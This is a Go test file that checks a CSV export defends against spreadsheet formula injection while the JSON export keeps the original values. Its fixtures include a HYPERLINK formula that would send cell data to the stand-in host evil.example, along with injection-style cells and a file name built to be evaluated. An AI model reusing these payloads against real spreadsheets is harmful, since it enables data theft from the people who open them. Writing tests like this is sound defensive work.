package privacy

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"testing"
)

// TestExportNeutralisesFormulas: cells a spreadsheet would evaluate (an
// imported item or file name starting with =, +, -, @) leave the CSV export
// prefixed with ' and the JSON export unchanged (issue 11, item 11).
func TestExportNeutralisesFormulas(t *testing.T) {
	st := audienceStore(t)
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	body := "date,song,streams\n" +
		`2026-11-01,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",10` + "\n" +
		"2026-11-01,+cmd,3\n2026-11-01,-2+3,4\n2026-11-01,@SUM(A1),5\n2026-11-01,Plain,6\n"
	name := "@SUM(1+1)*cmd.csv"
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	if r, err := st.ImportAudience(ctx, p, AudienceMapping{Platform: "spotify"}, nil); err != nil || !r.OK {
		t.Fatalf("%+v %v", r, err)
	}
	res, err := st.Export(ctx, t.TempDir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	readCSV := func(n string) [][]string {
		f, err := os.Open(filepath.Join(res.Dir, n))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		recs, err := csv.NewReader(f).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", n, err)
		}
		return recs
	}
	var items []string
	for _, r := range readCSV("audience.csv")[1:] {
		items = append(items, r[3])
	}
	for _, want := range []string{"'" + evil, "'+cmd", "'-2+3", "'@SUM(A1)", "Plain"} {
		if !slices.Contains(items, want) {
			t.Errorf("audience.csv items %q lack %q", items, want)
		}
	}
	imps := readCSV("audience_imports.csv")
	if len(imps) != 2 || imps[1][2] != "'"+name {
		t.Errorf("audience_imports.csv: %q", imps)
	}
	// every cell of every CSV is safe
	for _, f := range res.Files {
		if filepath.Ext(f) != ".csv" {
			continue
		}
		for _, r := range readCSV(f) {
			for _, c := range r {
				if c != "" && SpreadsheetSafe(c) != c {
					t.Errorf("%s: cell %q would be evaluated", f, c)
				}
			}
		}
	}
	// the JSON keeps the original values
	b, err := os.ReadFile(filepath.Join(res.Dir, "atelier-data.json"))
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Audience []struct {
			Item string `json:"item"`
		} `json:"audience"`
		AudienceImports []struct {
			File string `json:"file"`
		} `json:"audienceImports"`
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	var jitems []string
	for _, a := range doc.Audience {
		jitems = append(jitems, a.Item)
	}
	if !slices.Contains(jitems, evil) || len(doc.AudienceImports) != 1 || doc.AudienceImports[0].File != name {
		t.Errorf("JSON changed the values: %q %+v", jitems, doc.AudienceImports)
	}
}

func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{
		"":          "",
		"Song":      "Song",
		"=1+1":      "'=1+1",
		"+1":        "+1",
		"-3.5":      "-3.5",
		"-1e-3":     "-1e-3",
		"-":         "'-",
		"-1e":       "'-1e",
		"+A1":       "'+A1",
		"-2+3":      "'-2+3",
		"@x":        "'@x",
		"\tx":       "'\tx",
		"\r=1":      "'\r=1",
		"a=b":       "a=b",
		"12":        "12",
		"-.5":       "-.5",
		"-.":        "'-.",
		"-Inf":      "'-Inf",
		"-1,0":      "'-1,0",
		"+1-1":      "'+1-1",
		"--1":       "'--1",
		"-1.2.3":    "'-1.2.3",
		"-1e5+A1":   "'-1e5+A1",
		"'=quoted":  "'=quoted",
		"x\n=HYPER": "x\n=HYPER",
	} {
		if got := SpreadsheetSafe(in); got != want {
			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
}
